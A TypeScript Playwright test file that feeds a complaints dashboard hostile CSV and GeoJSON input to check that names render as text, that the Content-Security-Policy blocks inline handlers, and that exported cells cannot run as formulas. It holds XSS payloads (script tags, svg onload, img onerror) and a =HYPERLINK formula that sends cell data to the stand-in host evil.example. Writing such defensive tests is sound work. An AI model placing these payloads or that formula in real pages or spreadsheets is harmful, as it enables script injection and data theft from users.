/**
 * Hostile names in an imported file (HTML and script in district, department, officer and category)
 * on every screen, with every chart hovered: shown as text, never run. The Content-Security-Policy
 * blocks an inline handler even if one slipped into the page, nothing leaves localhost, and the
 * quarantine export neutralises cells a spreadsheet would run as formulas.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Page } from 'playwright-core';
import { startLoaded, stopLoaded, type Harness } from './harness';

const DEPT = '<script>window.__pwned="dept"</script>';
const OFFICER = '<svg onload=window.__pwned="officer">';
const CATEGORY = '"><img src=x onerror=window.__pwned="category">';
const DISTRICT = '<img src=x onerror=window.__pwned="district">';
const ROWS: string[] = ['complaint_id,registered_on,district,department,category,officer_id,officer_name,status,closed_on,closure_type,current_level'];
for (let i = 0; i < 60; i++) {
  const d = ['Bhopal', 'Indore', DISTRICT][i % 3];
  const closed = i % 4 !== 0;
  ROWS.push([`X${i}`, `2024-0${1 + (i % 3)}-1${i % 9}`, d, i % 2 ? DEPT : 'Health', CATEGORY, `O${i % 2}`, OFFICER, closed ? 'closed' : 'open',
    closed ? `2024-0${1 + (i % 3)}-2${i % 8}` : '', closed ? (i % 5 ? 'satisfied' : 'force_closed') : '', '1'].map((v) => (/[",]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v)).join(','));
}
ROWS.push('BAD1,=HYPERLINK("http://evil.example/?"&A1;"click"),Bhopal,Health,,,,open,,,1'); // bad date: quarantined
const CSV = ROWS.join('\n') + '\n';
const SCREENS = ['#/', '#/districts', '#/districts/Bhopal', '#/departments', '#/officers', '#/scorecard', '#/briefing', '#/data'];

async function hoverCharts(page: Page): Promise<number> {
  const canvases = await page.locator('canvas').all();
  for (const c of canvases) {
    const box = await c.boundingBox();
    if (!box || box.width < 20) continue;
    for (const fx of [0.2, 0.4, 0.6, 0.8]) for (const fy of [0.3, 0.6]) await page.mouse.move(box.x + box.width * fx, box.y + box.height * fy);
  }
  return canvases.length;
}
const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null);

describe('hostile data (built dist/, headless Chromium)', () => {
  let h: Harness, page: Page, errors: string[], external: string[];
  beforeAll(async () => {
    ({ h, page, errors, external } = await startLoaded('#/data'));
    await page.getByTestId('file-input').setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(CSV) });
    await page.getByTestId('import-run').click();
    await page.waitForFunction(() => document.querySelector('[data-testid="dataset-summary"]')?.getAttribute('data-rows') === '60', null, { timeout: 60_000 });
  });
  afterAll(() => stopLoaded(h, page));

  it('names with HTML and script are text on every screen, every chart hovered', async () => {
    let charts = 0;
    for (const s of SCREENS) {
      await page.goto(h.url + s + (s.includes('?') ? '&' : '?') + 'period=2024-01');
      await page.waitForTimeout(1200);
      if (s === '#/officers') { await page.getByTestId('officer-row').first().click().catch(() => {}); await page.waitForTimeout(800); }
      if (s.startsWith('#/districts/')) await page.locator('canvas').first().waitFor({ timeout: 10_000 }).catch(() => {});
      charts += await hoverCharts(page);
      expect(await pwned(page), s).toBeNull();
      expect(await page.locator('img[src="x"], svg[onload], script:not([src])').count(), s).toBe(0);
    }
    expect(charts).toBeGreaterThan(3);
    await page.goto(h.url + '#/departments?period=2024-01');
    await page.waitForFunction((d) => document.body.innerText.includes(d), DEPT, { timeout: 20_000 });
    expect(errors).toEqual([]);
    expect(external).toEqual([]);
  });

  it('a boundary file whose feature names are HTML: listed as text under the map, nothing runs', async () => {
    const sq = (x: number, y: number) => ({ type: 'Polygon', coordinates: [[[x, y], [x + 1, y], [x + 1, y + 1], [x, y + 1], [x, y]]] });
    const evil = '<img src=x onerror=window.__pwned="geojson">';
    const geo = { type: 'FeatureCollection', features: [
      { type: 'Feature', properties: { DISTRICT: 'Bhopal' }, geometry: sq(77, 23) },
      { type: 'Feature', properties: { DISTRICT: evil, name: '<script>window.__pwned="geo2"</script>' }, geometry: sq(70, 20) },
    ] };
    await page.goto(h.url + '#/districts?period=2024-01');
    await page.getByTestId('league-row').first().waitFor();
    await page.getByTestId('boundary-input').setInputFiles({ name: 'evil.geojson', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(geo)) });
    await page.getByTestId('boundary-map').waitFor();
    await expect(page.getByTestId('boundary-match').textContent()).resolves.toContain(evil);
    for (const p of await page.locator('[data-testid=boundary-map] path').all()) await p.hover().catch(() => {});
    expect(await pwned(page)).toBeNull();
    expect(await page.locator('img[src="x"], script:not([src])').count()).toBe(0);
  });

  it('the Content-Security-Policy blocks an inline handler that slipped into the page', async () => {
    const blocked = await page.evaluate(() => new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.__pwned=\'csp\'" onload="window.__pwned=\'csp\'">');
      setTimeout(() => resolve('none'), 3000);
    }));
    expect(blocked).toMatch(/^script-src/);
    expect(await pwned(page)).toBeNull();
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toContain("connect-src 'self'");
    expect(csp).not.toContain("'unsafe-eval'");
  });

  it('the quarantine export writes a formula as text', async () => {
    await page.goto(h.url + '#/data');
    const dl = page.waitForEvent('download');
    await page.getByTestId('download-quarantine').click();
    const file = await (await dl).path();
    const text = (await import('node:fs')).readFileSync(file!, 'utf8');
    expect(text).toContain(`'=HYPERLINK`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
